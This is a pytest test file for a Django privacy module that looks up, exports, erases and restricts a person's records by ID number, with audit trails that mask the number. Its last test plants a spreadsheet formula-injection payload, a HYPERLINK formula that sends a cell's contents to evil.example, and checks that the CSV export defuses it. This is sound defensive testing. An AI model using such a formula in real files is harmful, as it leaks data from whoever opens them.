"""Data-subject requests through the services and the command: find everything on one ID
number, export it, erase it, restrict it — audited, never with the full number in the trail."""

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command

from core import pii
from core.models import AuditEvent
from privacy import selectors, services
from privacy.models import DataSubjectRequest, RegistrationPrivacy
from subscribers.models import Registration
from subscribers.selectors import registrations_for_user
from tests.factories import StaffFactory, UserFactory

from .conftest import deactivate, nik, photo_paths

pytestmark = pytest.mark.django_db


def open_request(operator, number, **kwargs) -> DataSubjectRequest:
    return services.data_subject_request_open(
        actor=operator, id_number=number, channel="grapari", **kwargs
    )


def assert_no_full_number_in_audit(number: str) -> None:
    for event in AuditEvent.objects.all():
        assert number not in json.dumps([event.before, event.after, event.target_repr])


@pytest.fixture
def subject(register, outlet):
    """One person (NIK serial 42): two registrations, and a former job at an outlet."""
    first, second = register(42), register(42)
    other = register(77)  # someone else
    staff = StaffFactory(
        user=UserFactory(username="former_clerk", first_name="Siti"),
        outlet=outlet,
        is_active=False,
        id_number_encrypted=pii.encrypt(nik(42)),
        id_number_digest=pii.digest(nik(42)),
    )
    return {"registrations": [first, second], "other": other, "staff": staff}


def test_lookup_finds_every_record_whatever_the_layout(operator, subject):
    typed = " ".join([nik(42)[:6], nik(42)[6:12], nik(42)[12:]])  # "317101 570890 0042"
    request = open_request(operator, typed, reference="SRT-001")

    records = selectors.data_subject_records(digests=request.id_number_digests)
    assert records.registration_ids == [r.pk for r in subject["registrations"]]
    assert records.staff_ids == [subject["staff"].pk]
    assert request.found["registrations"] == 2 and request.found["outlet_staff"] == 1
    assert request.id_number_masked == "3171********0042"
    event = AuditEvent.objects.get(action="privacy.dsr_lookup")
    assert event.actor == operator
    assert event.after["registration_ids"] == records.registration_ids
    assert_no_full_number_in_audit(nik(42))
    # The registrations' own creation events are part of what is held about them.
    assert records.audit_events.filter(action="registration.create").count() == 2


def test_only_operator_admins_and_only_plausible_numbers(grapari, clerk, operator, subject):
    for user in (grapari, clerk):
        with pytest.raises(PermissionDenied):
            open_request(user, nik(42))
    with pytest.raises(ValidationError):
        open_request(operator, " 1 ")
    assert not DataSubjectRequest.objects.exists()
    assert not AuditEvent.objects.filter(action__startswith="privacy.").exists()


def test_export_json_and_csv_carry_the_persons_data(operator, subject):
    request = open_request(operator, nik(42))

    export = services.data_subject_request_export(actor=operator, request=request, fmt="json")
    data = json.loads(export.content)
    assert [r["id_number"] for r in data["registrations"]] == [nik(42), nik(42)]
    assert data["registrations"][0]["full_name"] == "Siti Nur'aini"
    assert data["registrations"][0]["photos_held"]
    assert data["outlet_staff"][0]["id_number"] == nik(42)
    assert {entry["by"] for entry in data["processing_log"]} >= {"outlet_staff"}
    assert "clerk" not in json.dumps(data["processing_log"])  # roles, not staff accounts
    assert subject["other"].registration_number not in export.content.decode()

    export = services.data_subject_request_export(actor=operator, request=request, fmt="csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0] == ["section", "record", "field", "value"]
    assert ["registrations", "1", "full_name", "Siti Nur'aini"] in rows
    assert ["registrations", "2", "id_number", nik(42)] in rows

    request.refresh_from_db()
    assert [entry["action"] for entry in request.actions] == ["export", "export"]
    assert AuditEvent.objects.filter(action="privacy.dsr_export").count() == 2
    assert_no_full_number_in_audit(nik(42))


def test_erase_anonymises_out_of_service_now_and_the_rest_when_they_leave(operator, subject):
    deactivated, in_service = subject["registrations"]
    deactivate(deactivated, days_ago=3)  # well within retention: erasure does not wait
    files = photo_paths(deactivated)
    request = open_request(operator, nik(42))

    outcome = services.data_subject_request_erase(actor=operator, request=request)

    assert outcome.anonymised == [deactivated.pk]
    assert outcome.deferred == {in_service.pk: "in_service"}
    assert outcome.staff_erased == [subject["staff"].pk]
    deactivated.refresh_from_db()
    in_service.refresh_from_db()
    assert deactivated.full_name == "" and deactivated.id_number_digest == ""
    assert not any(path.exists() for path in files)
    assert in_service.full_name == "Siti Nur'aini"
    assert in_service.privacy.restricted_at and in_service.privacy.erasure_requested_at
    subject["staff"].refresh_from_db()
    assert subject["staff"].id_number_encrypted == subject["staff"].id_number_digest == ""
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {
        "privacy.dsr_erase",
        "privacy.registrations_anonymised",
        "registration.anonymised",
        "registration.erasure_deferred",
        "outlet_staff.id_erased",
    } <= actions
    assert_no_full_number_in_audit(nik(42))

    # The number leaves service: the next purge anonymises it at once (no retention wait).
    deactivate(in_service, days_ago=0)
    call_command("purge_expired_data", stdout=io.StringIO())
    in_service.refresh_from_db()
    assert in_service.full_name == "" and in_service.birth_date == date(1990, 1, 1)
    # Nothing is left to find on this number, except the other person's data.
    again = open_request(operator, nik(42))
    assert again.found == {
        "registrations": 0,
        "as_head_of_family": 0,
        "outlet_staff": 0,
        "audit_events": 0,
        "ambiguous": [],
    }
    subject["other"].refresh_from_db()
    assert subject["other"].full_name == "Siti Nur'aini"


def test_erase_blocked_registration_now_but_active_staff_record_kept(operator, subject):
    blocked, _ = subject["registrations"]
    Registration.objects.filter(pk=blocked.pk).update(status=Registration.Status.BLOCKED)
    staff = subject["staff"]
    staff.is_active = True
    staff.save()

    outcome = services.data_subject_request_erase(
        actor=operator, request=open_request(operator, nik(42))
    )

    assert outcome.anonymised == [blocked.pk]
    assert outcome.staff_kept == [staff.pk]
    staff.refresh_from_db()
    assert staff.id_number_digest == pii.digest(nik(42))


def test_restrict_hides_from_everyone_but_the_operator_admin(
    operator, grapari, clerk, regulator, subject
):
    request = open_request(operator, nik(42))
    restricted = services.data_subject_request_restrict(actor=operator, request=request)
    assert restricted == sorted(r.pk for r in subject["registrations"])

    for user in (grapari, clerk, regulator):
        visible = selectors.registrations_visible_to(
            user=user, queryset=registrations_for_user(user=user)
        )
        assert set(visible.values_list("pk", flat=True)) == {subject["other"].pk}
    everything = selectors.registrations_visible_to(
        user=operator, queryset=registrations_for_user(user=operator)
    )
    assert everything.count() == 3
    assert selectors.registration_is_restricted(subject["registrations"][0])
    assert AuditEvent.objects.filter(action="registration.restricted").count() == 2

    # Restricting twice changes nothing; lifting brings them back.
    assert services.data_subject_request_restrict(actor=operator, request=request) == []
    lifted = services.data_subject_request_lift_restriction(actor=operator, request=request)
    assert lifted == restricted
    assert not RegistrationPrivacy.objects.filter(restricted_at__isnull=False).exists()


def test_command_export_erase_restrict(subject, tmp_path: Path, capsys):
    out = io.StringIO()
    target = tmp_path / "copy.csv"
    call_command("data_subject_request", nik(42), "--export", str(target), stdout=out)
    assert "2 registration(s), 1 outlet-staff record(s)" in out.getvalue()
    assert nik(42) in target.read_text(encoding="utf-8-sig")
    assert target.stat().st_mode & 0o077 == 0

    call_command("data_subject_request", nik(42), "--restrict", stdout=out)
    assert RegistrationPrivacy.objects.filter(restricted_at__isnull=False).count() == 2

    deactivate(subject["registrations"][0], days_ago=1)
    call_command("data_subject_request", nik(42), "--erase", stdout=out)
    subject["registrations"][0].refresh_from_db()
    assert subject["registrations"][0].full_name == ""

    requests = DataSubjectRequest.objects.order_by("pk")
    assert requests.count() == 3
    assert requests[0].handled_by is None
    assert requests[0].handled_by_label.startswith("command-line:")
    assert_no_full_number_in_audit(nik(42))


def test_csv_copy_neutralises_formulas_typed_into_the_data(operator, subject):
    """Killed mutant: formula defusing removed from the data-subject CSV. A person's copy opened
    in a spreadsheet must show what was typed, never run it."""
    first = subject["registrations"][0]
    Registration.objects.filter(pk=first.pk).update(
        address='=HYPERLINK("http://evil.example/?"&A1,"klik")\nJl. Merdeka 1',
        birth_place="@SUM(1+1)",
    )
    UserFactory._meta.model.objects.filter(pk=subject["staff"].user_id).update(
        first_name="+62 812", last_name="-1"
    )
    request = open_request(operator, nik(42))

    export = services.data_subject_request_export(actor=operator, request=request, fmt="csv")
    text = export.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))

    assert [
        "registrations",
        "1",
        "address",
        '\'=HYPERLINK("http://evil.example/?"&A1,"klik") Jl. Merdeka 1',
    ] in rows
    assert ["registrations", "1", "birth_place", "'@SUM(1+1)"] in rows
    assert ["outlet_staff", "1", "name", "'+62 812 -1"] in rows
    values = [row[3] for row in rows[1:]]
    assert not [value for value in values if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert len(text.splitlines()) == len(rows)  # no value spans two lines
